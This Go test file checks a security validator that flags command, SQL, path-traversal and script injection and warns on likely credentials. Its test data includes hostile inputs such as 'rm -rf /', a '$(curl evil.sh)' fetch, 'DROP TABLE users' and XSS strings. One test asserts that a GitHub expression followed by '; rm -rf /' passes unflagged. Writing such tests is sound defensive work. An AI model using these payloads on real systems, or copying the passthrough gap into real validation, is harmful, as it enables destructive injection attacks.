//go:build !integration

package validation

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newSecurityValidator(t *testing.T) *SecurityValidator {
	t.Helper()
	return NewSecurityValidator(NewBaseValidator("demo", nil))
}

func TestValidateValue_CategoriesNameThemselves(t *testing.T) {
	tests := []struct {
		name     string
		value    string
		category string
	}{
		{"command semicolon", "echo ok; rm -rf /", "command injection"},
		{"command subshell", "$(curl evil.sh)", "command injection"},
		{"sql union", "1 UNION SELECT password FROM users", "SQL injection"},
		{"sql drop", "x'; DROP TABLE users--", "SQL injection"},
		{"traversal", "../../etc/passwd", "path traversal"},
		{"script tag", "<SCRIPT>alert(1)</script>", "script injection"},
		{"javascript scheme", "JavaScript:alert(1)", "script injection"},
		{"event handler", "x onerror=alert(1)", "script injection"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := newSecurityValidator(t)
			ok := v.ValidateValue(tt.value, "comment-body")
			assert.False(t, ok)
			require.NotEmpty(t, v.Errors())
			var messages []string
			for _, err := range v.Errors() {
				messages = append(messages, err.Message)
			}
			assert.Contains(t, strings.Join(messages, "\n"), tt.category)
		})
	}
}

func TestValidateValue_MultipleCategoriesAccumulate(t *testing.T) {
	v := newSecurityValidator(t)

	ok := v.ValidateValue("../x; DROP TABLE users", "comment-body")

	assert.False(t, ok)
	require.Len(t, v.Errors(), 3)
	assert.Contains(t, v.Errors()[0].Message, "command injection")
	assert.Contains(t, v.Errors()[1].Message, "SQL injection")
	assert.Contains(t, v.Errors()[2].Message, "path traversal")
}

func TestValidateValue_CleanValuesPass(t *testing.T) {
	tests := []string{
		"a plain description",
		"release notes for 1.2.3",
		"glob like *.{md|txt}",
		"windows\\style\\path",
	}
	for _, value := range tests {
		t.Run(value, func(t *testing.T) {
			v := newSecurityValidator(t)
			assert.True(t, v.ValidateValue(value, "description"))
			assert.Empty(t, v.Errors())
		})
	}
}

func TestValidateValue_SecretHeuristicWarnsWithoutFailing(t *testing.T) {
	v := newSecurityValidator(t)

	// 20 distinct characters: entropy well above the floor.
	ok := v.ValidateValue("abcdefghijklmnopqrst", "api-key")

	assert.True(t, ok, "the heuristic warns, it never fails the run")
	assert.Empty(t, v.Errors())
	require.Len(t, v.Warnings(), 1)
	warning := v.Warnings()[0]
	assert.Equal(t, "value looks like a credential", warning.Message)
	assert.Empty(t, warning.Value, "the suspected credential is redacted")
}

func TestLooksLikeSecret(t *testing.T) {
	tests := []struct {
		name  string
		value string
		want  bool
	}{
		{"20 distinct chars", "abcdefghijklmnopqrst", true},
		{"36 distinct chars", "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", true},
		{"repeated char", strings.Repeat("a", 24), false},
		{"two-char alternation", strings.Repeat("ab", 10), false},
		{"low variety", "aaaabbbbccccddddeeee", false},
		{"contains space", "abcdefghij klmnopqrst", false},
		{"too short", "abcdefghij", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, looksLikeSecret(tt.value))
		})
	}
}

func TestShannonEntropy(t *testing.T) {
	assert.Zero(t, shannonEntropy(""))
	assert.Zero(t, shannonEntropy("aaaa"))
	assert.InDelta(t, 1.0, shannonEntropy("abab"), 0.0001)
	assert.InDelta(t, 4.3219, shannonEntropy("abcdefghijklmnopqrst"), 0.001)
}

func TestValidateValue_ExpressionPassthrough(t *testing.T) {
	v := newSecurityValidator(t)
	assert.True(t, v.ValidateValue("${{ github.event.comment.body }}; rm -rf /", "comment-body"))
	assert.Empty(t, v.Errors())
	assert.Empty(t, v.Warnings())
}
